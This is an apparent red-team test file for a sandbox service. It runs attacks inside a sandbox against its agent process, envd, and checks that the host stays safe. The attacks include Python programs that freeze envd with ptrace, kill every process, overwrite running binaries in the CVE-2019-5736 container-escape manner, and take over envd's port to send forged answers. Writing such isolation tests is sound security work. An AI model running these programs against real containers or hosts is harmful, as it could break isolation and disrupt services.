import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { listHostTraces, serverMemoryMib } from '@soulbox/testing';
import { Sandbox } from 'e2b';
import { Breach } from '../attempt.ts';
import type { Scene } from '../attempt.ts';
import type { World } from '../world.ts';
import { ask, toPort } from './raw.ts';

const stolenPort = readFileSync(join(import.meta.dirname, 'stolen-port.py'), 'utf8');
/** The time for any answer of the server about a sandbox whose envd is hostile. */
const answerMs = 70_000;
const growthMib = 200;

/** Every call of the API that makes the server talk to envd. */
const callsToEnvd: readonly (readonly [method: string, path: string, body?: object])[] = [
  ['GET', '/sandboxes/ID/logs'],
  ['GET', '/sandboxes/ID/metrics'],
  ['POST', '/sandboxes/ID/run', { code: 'true', language: 'bash' }],
  ['POST', '/sandboxes/ID/pause', { memory: false }],
  ['GET', '/sandboxes/ID'],
];

async function answersForged(world: World, how: string): Promise<string> {
  return await world.withSandbox(async (sandbox) => {
    const { target } = world;
    const before = serverMemoryMib(target.pid);
    await sandbox.files.write('/root/stolen.py', stolenPort, { user: 'root' });
    let printed = '';
    // The stream never ends: envd is stopped.
    void sandbox.commands
      .run(`exec python3 /root/stolen.py ${how}`, {
        background: true,
        user: 'root',
        timeoutMs: 0,
        onStdout: (text) => void (printed += text),
      })
      .catch((error: unknown) => (printed += String(error)));
    // envd's answer may be lost with envd: the port itself shows who answers.
    await sleep(3000);
    const direct = await ask(target.port, '/health', { headers: toPort(sandbox.sandboxId, 49983) }).then(
      ({ status }) => String(status),
      (error: unknown) => String(error),
    );
    if (direct === '204') throw new Error(`envd still answers: ${printed}`);
    const statuses: string[] = [];
    for (const [method, path, body] of callsToEnvd) {
      const startedAt = Date.now();
      const status = await callApi(world, method, path.replace('ID', sandbox.sandboxId), body);
      statuses.push(status);
      if (Date.now() - startedAt > answerMs) throw new Breach(`${method} ${path} took ${Date.now() - startedAt} ms`);
    }
    const harm = await world.neighbor.findHarm();
    if (harm.length > 0) throw new Breach(harm.join('; '));
    const growth = Math.round(serverMemoryMib(target.pid) - before);
    if (growth > growthMib) throw new Breach(`the server has grown by ${growth} MiB`);
    await killsAnyway(world, sandbox);
    const heard = await world.outside.heard();
    if (heard.includes('/redteam')) throw new Breach('the server followed a redirect of envd');
    return `envd's port answered ${direct}, calls about it returned ${statuses.join(' ')}, the server grew by ${growth} MiB, a kill worked`;
  });
}

async function callApi(world: World, method: string, path: string, body: object | undefined): Promise<string> {
  const headers = {
    'x-api-key': world.target.apiKey,
    ...(body === undefined ? {} : { 'content-type': 'application/json' }),
  };
  const url = `${world.target.apiUrl}${path}`;
  try {
    const response = await fetch(url, {
      ...{ method, headers, signal: AbortSignal.timeout(answerMs + 20_000) },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });
    await response.text();
    return String(response.status);
  } catch (error) {
    return error instanceof Error ? error.name : 'error';
  }
}

/** A kill does not need envd. */
async function killsAnyway({ target }: World, sandbox: Sandbox): Promise<void> {
  const startedAt = Date.now();
  await Sandbox.kill(sandbox.sandboxId, { requestTimeoutMs: 60_000 });
  while ((await listHostTraces(target.instance)).join('\n').includes(sandbox.sandboxId)) {
    if (Date.now() - startedAt > 30_000) throw new Breach('the sandbox is still there 30 s after its kill');
    await sleep(100);
  }
}

async function stopsEnvd(world: World): Promise<string> {
  return await world.withSandbox(async (sandbox) => {
    const program = `
import ctypes, os, time
libc = ctypes.CDLL(None)
libc.ptrace.argtypes = [ctypes.c_long] * 4
for task in os.listdir('/proc/1/task'):
  libc.ptrace(0x4206, int(task), 0, 0)
  libc.ptrace(0x4207, int(task), 0, 0)
time.sleep(600)`;
    await sandbox.files.write('/root/stop.py', program, { user: 'root' });
    await sandbox.commands
      .run('setsid python3 /root/stop.py >/dev/null 2>&1 &', { user: 'root' })
      .catch(() => undefined);
    await sleep(1000);
    await killsAnyway(world, sandbox);
    return 'the kill of a sandbox whose envd a debugger has stopped worked';
  });
}

/** `kill -9 -1`: everything that the user may signal. */
async function killsAll(world: World): Promise<string> {
  return await world.withSandbox(async (sandbox) => {
    await sandbox.commands.run('kill -9 -1').catch(() => undefined);
    const { stdout } = await sandbox.commands.run('echo alive');
    if (stdout !== 'alive\n') throw new Breach('envd does not start commands any more');
    return 'envd still starts commands';
  });
}

async function rootKillsAll(world: World): Promise<string> {
  return await world.withSandbox(async (sandbox) => {
    const program = `
import ctypes, os
libc = ctypes.CDLL(None)
for number in range(1, 65):
  if number in (19, 20, 21, 22): continue
  libc.syscall(234, 1, 1, number)
os.kill(-1, 9)`;
    await sandbox.files.write('/root/kill.py', program, { user: 'root' });
    await sandbox.commands.run('python3 /root/kill.py', { user: 'root', timeoutMs: 5000 }).catch(() => undefined);
    const answer = await sandbox.commands.run('echo alive', { timeoutMs: 5000, requestTimeoutMs: 10_000 }).then(
      ({ stdout }) => stdout.trim(),
      () => 'gone',
    );
    await killsAnyway(world, sandbox);
    return `envd is ${answer}; nothing is left after the kill`;
  });
}

/** Programs that envd or the server could run instead of its own. */
async function replacesPrograms(world: World): Promise<string> {
  return await world.withSandbox(async (sandbox) => {
    const plant = `
import os, shutil
for name in ('bash', 'sh', 'env', 'ls'):
  path = '/usr/bin/' + name
  os.rename(path, path + '.real')
  os.symlink('/proc/self/exe', path)
os.makedirs('/root/loop', exist_ok=True)`;
    const race = `
import os, time
endAt = time.time() + 20
while time.time() < endAt:
  for process in os.listdir('/proc'):
    if not process.isdigit() or process == str(os.getpid()): continue
    try: opened = os.open('/proc/%s/exe' % process, os.O_PATH)
    except OSError: continue
    try: os.write(os.open('/proc/self/fd/%d' % opened, os.O_WRONLY | os.O_TRUNC), b'#!/redteam')
    except OSError: pass
    os.close(opened)`;
    await sandbox.files.write('/root/race.py', race, { user: 'root' });
    await sandbox.commands.run('exec python3 /root/race.py', { background: true, user: 'root', timeoutMs: 0 });
    await sandbox.files.write('/root/plant.py', plant, { user: 'root' });
    await sandbox.commands.run('python3 /root/plant.py', { user: 'root' }).catch(() => undefined);
    for (let n = 0; n < 20; n += 1) await sandbox.commands.run('true', { timeoutMs: 3000 }).catch(() => undefined);
    await sandbox.pause().catch(() => undefined);
    await sandbox.connect().catch(() => undefined);
    await killsAnyway(world, sandbox);
    return 'the programs of the host and of envd are unchanged, see the check after each attempt';
  });
}

const own = { kind: 'scene', wall: 'envd' } as const;
const cannotTake = 'its kernel has no call to take a descriptor (pidfd_getfd)';

export const envdAttempts: readonly Scene[] = [
  { ...own, by: ['user'], pace: 'quick', name: 'kills everything that it may', run: killsAll },
  { ...own, by: ['root'], pace: 'long', name: 'kills everything, envd with every signal', run: rootKillsAll },
  { ...own, by: ['root'], pace: 'quick', name: 'stops envd with a debugger', run: stopsEnvd },
  {
    ...own,
    by: ['root'],
    pace: 'long',
    name: 'overwrites programs while they run (CVE-2019-5736)',
    run: replacesPrograms,
  },
  ...['forged', 'head', 'body', 'interim', 'redirect', 'bytes', 'silent'].map((how): Scene => ({
    ...{ ...own, by: ['root'], pace: 'long', notInOwnKernel: cannotTake },
    name: `takes envd's port and answers for it: ${how}`,
    run: async (world) => await answersForged(world, how),
  })),
];
